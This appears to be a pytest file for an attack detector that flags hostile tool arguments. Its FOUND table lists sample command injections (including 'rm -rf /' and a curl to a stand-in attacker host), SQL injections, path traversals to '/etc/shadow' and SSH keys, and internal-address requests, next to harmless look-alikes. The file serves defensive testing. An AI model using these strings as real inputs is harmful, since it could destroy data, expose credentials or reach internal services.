"""Attacks in the arguments of a tool, and what only looks like one."""

from __future__ import annotations

import pytest

from keeptrusts.detect.attacks import CATEGORIES, find_attacks

FOUND = {
    "command_injection": ("a.txt; rm -rf /", "x && curl https://evil.example", "$(whoami)", "`id`", "/bin/bash -c ls"),
    "sql_injection": (
        "1 UNION  SELECT name",
        "x' or '1'='1",
        "Robert'); DROP TABLE students;--",
        "1; drop table users ",
        "pg_sleep(10)",
        "x' WAITFOR DELAY '0:0:5'",
    ),
    "path_traversal": ("../../x", "%2e%2e%2f%2e%2e%2fx", "..\\..\\x", "/etc/shadow", "~/.ssh/id_rsa"),
    "internal_address": ("http://169.254.169.254/", "http://localhost:8080", "http://a@127.0.0.1/", "file:///x"),
}  # fmt: skip
HARMLESS = (
    "The cat; the dog & I ran",
    "apples; cat food; curl cream",
    "see ../README.md",
    "cats | dogs",
    "I sleep 8 hours",
    "select a seat or update your profile",
    "the union selected a speaker",
    "it's either this or that = fine",
    "https://example.com/localhost",
    "10.169.254.169.254",
    "profile: //x",
    "use `git status` first",
)


@pytest.mark.parametrize(("category", "text"), [(name, text) for name, texts in FOUND.items() for text in texts])
def test_attacks_are_found(category: str, text: str) -> None:
    """Under their category, in any case."""
    for said in (text, text.upper() if "%2e" not in text else text):
        assert category in {hit.category for hit in find_attacks(said)}, said


@pytest.mark.parametrize("text", HARMLESS)
def test_what_only_looks_like_one_is_not(text: str) -> None:
    """Prose, and ordinary arguments."""
    assert find_attacks(text) == []


def test_every_category_is_shown_here() -> None:
    """None is left out."""
    assert set(FOUND) == set(CATEGORIES)
